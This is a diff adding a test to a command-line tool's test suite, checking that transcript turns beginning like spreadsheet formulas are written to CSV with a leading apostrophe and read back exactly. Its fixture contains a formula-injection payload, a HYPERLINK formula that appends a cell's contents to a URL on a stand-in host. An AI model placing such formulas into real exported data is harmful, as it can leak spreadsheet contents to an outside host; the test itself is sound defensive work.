@@ -1,5 +1,7 @@
 """The CLI through Typer's CliRunner, and once as a real subprocess."""
 
+import csv
+import io
 import json
 import os
 import subprocess
@@ -116,6 +118,26 @@ def test_segment_each_format_offsets_hold(tmp_path, suffix):
         assert texts[str(row.interview_id)][row.start:row.end] == row.text
     assert {"segment_id", "speaker", "role", "codes"} <= set(frame.columns)
     assert (frame.role == "participant").all()
+
+
+def test_segment_csv_text_opens_in_a_spreadsheet_as_text(tmp_path):
+    """A turn that starts like a formula is written with an apostrophe before it (to a file or
+    stdout), and tr_nlp reads the CSV back to the exact text."""
+    transcript = tmp_path / "t.txt"
+    transcript.write_text('Interviewer: And then?\nP1: =HYPERLINK("http://x.example/?"&A1) was in the letter.\n'
+                          "Interviewer: Right.\nP1: - yeah. Well, +1 to that.\n", encoding="utf-8")
+    result = run("segment", transcript, "--unit", "turn", "-o", tmp_path / "s.csv")
+    assert result.exit_code == 0, result.output
+    stdout = run("segment", transcript, "--unit", "turn")
+    assert stdout.exit_code == 0 and stdout.stdout == (tmp_path / "s.csv").read_text(encoding="utf-8")
+    cells = [row["text"] for row in csv.DictReader(io.StringIO(stdout.stdout))]
+    assert [cell[:2] for cell in cells] == ["'=", "'-"]
+    from tr_nlp.ingest.table import load_frame
+
+    frame = load_frame(tmp_path / "s.csv")[0]
+    text = transcript.read_text(encoding="utf-8")
+    assert frame.text.tolist() == [cell[1:] for cell in cells]
+    assert [text[int(s):int(e)] for s, e in zip(frame.start, frame.end)] == frame.text.tolist()
 
 
 def test_segments_no_coding_falls_on_get_an_empty_codes_column(tmp_path):
